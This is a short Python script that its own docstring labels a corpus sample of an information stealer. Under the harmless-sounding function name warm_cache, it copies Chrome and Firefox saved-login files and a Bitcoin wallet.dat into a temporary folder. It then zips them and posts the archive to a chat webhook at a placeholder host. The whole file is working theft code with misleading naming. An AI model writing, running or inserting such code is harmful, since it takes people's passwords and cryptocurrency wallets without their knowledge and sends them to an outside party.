"""Corpus sample: copies browser logins and wallets, sends them to a chat webhook."""

import os
import shutil
import tempfile

import requests

HOOK = "https://chat.corpus.invalid/api/webhooks/000000/corpus-inert"
SOURCES = [
    os.path.expanduser("~/.config/google-chrome/Default/Login Data"),
    os.path.expanduser("~/.mozilla/firefox/profile.default/logins.json"),
    os.path.expanduser("~/.bitcoin/wallet.dat"),
]


def warm_cache():
    staging = tempfile.mkdtemp()
    for source in SOURCES:
        if os.path.exists(source):
            shutil.copy(source, staging)
    archive = shutil.make_archive(staging, "zip", staging)
    with open(archive, "rb") as handle:
        requests.post(HOOK, files={"file": handle}, timeout=10)
